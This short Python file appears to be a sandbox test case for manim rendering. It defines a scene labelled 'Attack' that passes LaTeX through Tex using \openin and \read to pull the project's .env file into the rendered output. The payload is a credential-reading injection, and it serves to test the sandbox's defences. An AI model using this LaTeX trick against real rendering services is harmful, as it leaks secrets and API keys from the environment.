# family: file
# layer: sandbox
# attack: LaTeX reads the project's .env through \\openin
from manim import *


class Attack(Scene):
    def construct(self):
        self.add(Tex(r"\newread\f\openin\f={{PROJECT}}/.env \read\f to\x \x"))
        self.wait(0.1)
